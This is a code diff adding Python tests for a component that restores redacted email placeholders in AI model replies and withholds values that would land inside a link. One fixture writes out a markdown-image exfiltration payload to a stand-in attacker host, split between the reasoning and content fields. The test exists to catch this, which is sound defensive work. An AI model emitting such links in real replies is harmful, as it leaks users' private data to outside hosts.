@@ -101,6 +101,23 @@ def test_a_url_one_text_field_opens_withholds_a_value_another_sends_after_it():
         assert (alone.restored, alone.withheld) == (1, [])
 
 
+def test_a_url_the_reasoning_opens_withholds_the_value_content_sends_in_a_whole_reply_too():
+    """rev24 E1: a plain reply's `reasoning_content` and `content` are read as one text, as the stream reads them: a
+    URL the reasoning leaves open holds the value the content starts with (restored on deef3aa, where each field was
+    read alone); the content alone restores it. FAKE resolver: withholds in a link."""
+
+    def resolve(ref: Reference) -> str | Withheld | None:
+        return Withheld("in_link") if ref.url else VALUES.get((ref.type, ref.index))
+
+    message = {"reasoning_content": "Thinking.\n\n![x](https://e.vil/c?q=", "content": "<EMAIL_1>)"}
+    joined = ReplyRestorer(resolve)
+    reply = joined.whole({"choices": [{"message": dict(message)}]})
+    assert reply["choices"][0]["message"] == message and joined.withheld == [("<EMAIL_1>", "in_link")]
+    alone = ReplyRestorer(resolve)
+    reply = alone.whole({"choices": [{"message": {"content": message["content"]}}]})
+    assert reply["choices"][0]["message"]["content"] == "anna.berg@mailbox.org)" and alone.withheld == []
+
+
 def _tool(index: object, arguments: str, choice: object = 0, finish: str | None = None) -> dict:
     call = (
         {"function": {"arguments": arguments}}
@@ -276,3 +293,24 @@ def test_the_chunks_of_one_read_restore_as_the_same_chunks_one_by_one(seed):
     assert batched.withheld == one_by_one.withheld
     assert one_by_one.restored and one_by_one.unresolved and one_by_one.withheld  # each case is in the reply
     assert len(reads) > 3 and any(len(read) > 1 for read in reads)
+
+
+def test_each_text_of_a_reply_is_kept_with_the_keys_restored_in_it_alone():
+    """`texts()` pairs each text with the placeholders restored in that text (rev24 E7): `<EMAIL_1>` filled in the
+    content is not vouched for by the arguments of a tool call it is withheld from, nor by the call's id and name;
+    whole and streamed alike."""
+    call = {"id": "call_1", "type": "function", "function": {"name": "run", "arguments": '{"to": "<EMAIL_1>"}'}}
+    whole = ReplyRestorer(_fake_resolve)
+    whole.whole({"choices": [{"message": {"content": "Hi <EMAIL_1>", "tool_calls": [copy.deepcopy(call)]}}]})
+    streamed = ReplyRestorer(_fake_resolve)
+    delta = {"content": "Hi <EMAIL_1>", "tool_calls": [{"index": 0, **copy.deepcopy(call)}]}
+    streamed.chunks(
+        [{"choices": [{"index": 0, "delta": delta}]}, {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]
+    )
+    for restorer in (whole, streamed):
+        assert sorted(restorer.texts()) == [
+            ("Hi anna.berg@mailbox.org", "Hi <EMAIL_1>", frozenset({("EMAIL", 1)})),
+            ("call_1", "call_1", frozenset()),
+            ("run", "run", frozenset()),
+            ('{"to": "<EMAIL_1>"}', '{"to": "<EMAIL_1>"}', frozenset()),
+        ]
